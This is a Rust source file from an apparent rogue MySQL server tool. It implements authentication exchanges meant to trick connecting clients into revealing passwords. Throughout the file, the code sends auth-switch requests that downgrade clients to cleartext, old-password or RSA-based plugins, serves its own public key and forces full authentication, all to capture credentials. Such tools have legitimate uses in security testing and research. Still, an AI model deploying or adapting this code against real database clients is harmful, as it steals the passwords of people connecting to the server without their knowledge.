//! Authentication requests with which the rogue server tricks clients into revealing passwords.

use std::io;

use tokio::io::{AsyncRead, AsyncWrite, AsyncWriteExt};

use super::rsa_key::PUBLIC_KEY_PEM;
use super::{RogueAttack, RogueConnection};
use crate::fake_server::packets;

const AUTH_MORE_DATA_HEADER: u8 = 1;
const FULL_AUTHENTICATION_STATUS_BYTE: u8 = 4;
/// Packets that `caching_sha2_password` and `sha256_password` clients send to request the server's RSA key.
const RSA_KEY_REQUEST_PACKETS: [&[u8]; 2] = [&[2], &[1]];

pub(super) fn auth_plugin_name_in_greeting(mode: &RogueAttack) -> &'static str {
    match mode {
        RogueAttack::FullAuthentication => "caching_sha2_password",
        _ => "mysql_native_password",
    }
}

impl<S: AsyncRead + AsyncWrite + Unpin> RogueConnection<S> {
    pub(super) async fn complete_authentication(&mut self) -> io::Result<()> {
        let request = match self.options.mode {
            RogueAttack::FullAuthentication => Some(vec![AUTH_MORE_DATA_HEADER, FULL_AUTHENTICATION_STATUS_BYTE]),
            RogueAttack::ClearPassword => Some(encode_auth_switch_request("mysql_clear_password")),
            RogueAttack::OldPassword => Some(encode_auth_switch_request("mysql_old_password")),
            RogueAttack::Sha256Password => Some(encode_auth_switch_request("sha256_password")),
            _ => None,
        };
        if let Some(request) = request {
            let response = self.exchange_authentication_packet(&request).await?;
            if RSA_KEY_REQUEST_PACKETS.contains(&response.as_slice()) {
                let key = [&[AUTH_MORE_DATA_HEADER], PUBLIC_KEY_PEM.as_bytes()].concat();
                self.exchange_authentication_packet(&key).await?;
            }
        }
        self.send_response(&packets::OK_PACKET).await?;
        self.stream.flush().await
    }

    async fn exchange_authentication_packet(&mut self, request: &[u8]) -> io::Result<Vec<u8>> {
        self.send_response(request).await?;
        self.stream.flush().await?;
        self.receive_packet().await
    }
}

fn encode_auth_switch_request(plugin: &str) -> Vec<u8> {
    [&[0xfe], plugin.as_bytes(), &[0], packets::GREETING_NONCE.as_slice(), &[0]].concat()
}
